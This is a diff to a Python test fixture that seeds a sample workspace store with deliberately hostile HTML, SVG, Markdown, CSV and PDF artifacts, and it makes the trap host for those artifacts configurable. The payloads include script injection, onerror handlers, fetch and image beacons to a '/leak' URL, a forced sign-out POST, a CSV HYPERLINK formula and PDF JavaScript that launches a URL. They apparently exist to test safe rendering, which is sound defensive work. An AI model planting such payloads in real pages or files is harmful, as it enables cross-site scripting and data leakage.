@@ -14,12 +14,12 @@ import time
 from pathlib import Path
 from typing import Any
 
-from gitstore import artifacts, memory, workflows
+from gitstore import artifacts, memory, values, workflows
 from gitstore.importing import import_folder
 from gitstore.keys import Keys
 from gitstore.model import Actor, Provenance
 from gitstore.store import Options, Store
-from gitstore.work import TaskNew
+from gitstore.work import TaskNew, Work
 
 ROOT = Path(__file__).parents[2]
 SAMPLES = ROOT / "sample-workspaces"
@@ -33,20 +33,20 @@ WORKFLOW = "release-train-2026-11-26"
 POLICY = "memory/release-policy.yaml"
 
 HOSTILE_HTML = b"""<!doctype html><title>t</title><h1>Report</h1><img src=x onerror="parent.hacked=1">
-<script>window.hacked=1;fetch('/ui/sign-out',{method:'POST'});new Image().src='http://127.0.0.1:1/leak'</script>
-<iframe src="http://127.0.0.1:1/frame"></iframe><form action="http://127.0.0.1:1/"><button>x</button></form>
+<script>window.hacked=1;fetch('/ui/sign-out',{method:'POST'});new Image().src='http://TRAP/leak'</script>
+<iframe src="http://TRAP/frame"></iframe><form action="http://TRAP/"><button>x</button></form>
 """
 HOSTILE_SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" width="120" height="60" onload="window.hacked=1">
-<script>window.hacked=1;fetch('http://127.0.0.1:1/leak')</script><image href="http://127.0.0.1:1/pixel.png"/>
+<script>window.hacked=1;fetch('http://TRAP/leak')</script><image href="http://TRAP/pixel.png"/>
 <rect width="120" height="60" fill="teal"/><a href="javascript:alert(1)"><text y="30">hi</text></a></svg>
 """
 HOSTILE_MARKDOWN = b"""# Report <script>window.hacked=1</script>
 
-![pixel](http://127.0.0.1:1/pixel.png) and <img src=x onerror="window.hacked=1"> and
-[a link](javascript:window.hacked=1) and [another](http://127.0.0.1:1/out "t") and <http://127.0.0.1:1/auto>.
+![pixel](http://TRAP/pixel.png) and <img src=x onerror="window.hacked=1"> and
+[a link](javascript:window.hacked=1) and [another](http://TRAP/out "t") and <http://TRAP/auto>.
 
-<iframe src="http://127.0.0.1:1/frame"></iframe>
-<style>body{background:url(http://127.0.0.1:1/style)}</style>
+<iframe src="http://TRAP/frame"></iframe>
+<style>body{background:url(http://TRAP/style)}</style>
 
 | a | b |
 |---|---|
@@ -56,14 +56,17 @@ HOSTILE_MARKDOWN = b"""# Report <script>window.hacked=1</script>
 <script>window.hacked = 1</script>
 ```
 """
-HOSTILE_CSV = b'route,errors,note\n/checkout,3,"=HYPERLINK(""http://127.0.0.1:1/"")"\n/ingress,12,<script>window.hacked=1</script>\n'
+HOSTILE_CSV = (
+    b'route,errors,note\n/checkout,3,"=HYPERLINK(""http://TRAP/"")"\n/ingress,12,<script>window.hacked=1</script>\n'
+)
 HOSTILE_PDF = b"""%PDF-1.4
-1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://127.0.0.1:1/pdf'\\))>>>>endobj
+1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://TRAP/pdf'\\))>>>>endobj
 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
-3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/AA<</O<</S/URI/URI(http://127.0.0.1:1/page)>>>>>>endobj
+3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/AA<</O<</S/URI/URI(http://TRAP/page)>>>>>>endobj
 trailer<</Root 1 0 R>>
 %%EOF
 """
+"""`TRAP` stands for the host that these want a browser to ask."""
 HOSTILE = {
     "hostile/report.html": ("text/html", HOSTILE_HTML),
     "hostile/picture.svg": ("image/svg+xml", HOSTILE_SVG),
@@ -129,18 +132,14 @@ def _artifact(store: Store, path: str, kind: str, content: bytes, who: Actor, **
     store.apply("platform", "evidence", lambda draft: artifacts.add(draft, new), Provenance(who)).result()
 
 
-def _present(store: Store) -> None:
+def _present(store: Store, trap: str) -> None:
     """What agents did today, through the API."""
-    from gitstore.work import Work
-
     work = Work(store)
     new = workflows.New(name="Release train, 26 November", id=WORKFLOW, state="active")
     tasks = [TaskNew("watch-canary", workflows.TaskPut(title="Watch the canary", role="observer"))]
     work.create_workflow("platform", new, Provenance(AGENT, workflow_id=WORKFLOW), tasks=tasks).result()
     behalf = {"workflow_id": WORKFLOW, "task_id": "watch-canary"}
     policy = store.load("platform").visible.context.memory["release-policy"]
-    from gitstore import values
-
     value = values.decode(policy.value_json)
     _set(store, "train/2026-11-26", {"state": "boarding", "services": ["checkout", "ingress"]}, AGENT, **behalf)
     value["rollback"]["error_rate_above"] = 0.1
@@ -160,11 +159,14 @@ def _present(store: Store) -> None:
     _artifact(store, "trains/2026-11-26/canary.md", "text/markdown", report, WATCH, task_id="watch-canary")
     _set(store, "service-tiers-seen", {"checkout": 1, "ingress": 1}, WATCH)
     for path, (kind, content) in HOSTILE.items():
-        _artifact(store, path, kind, content, WATCH)
+        _artifact(store, path, kind, content.replace(b"TRAP", trap.encode()), WATCH)
 
 
-def make(data: Path, now: float | None = None) -> dict[str, str]:
-    """Makes the store in `data` and returns the text of a key for each scope."""
+def make(data: Path, now: float | None = None, *, trap: str = "127.0.0.1:1") -> dict[str, str]:
+    """Makes the store in `data` and returns the text of a key for each scope.
+
+    `trap` is the host and port that the hostile artifacts want a browser to ask.
+    """
     now = time.time() if now is None else now
     scratch = data.with_name(f"{data.name}-people") / "platform"
     scratch.parent.mkdir()
@@ -173,7 +175,7 @@ def make(data: Path, now: float | None = None) -> dict[str, str]:
         for folder in sorted(SAMPLES.iterdir()):
             if folder.is_dir():
                 import_folder(store, scratch if folder.name == "platform" else folder, slug=folder.name)
-        _present(store)
+        _present(store, trap)
         keys = Keys.open(store.layout.keys, token_key=store.vault.derive("tokens"))
         made = {scope: keys.create(scope, f"the {scope}")[1] for scope in ("agent", "worker", "admin")}
     shutil.rmtree(scratch.parent)
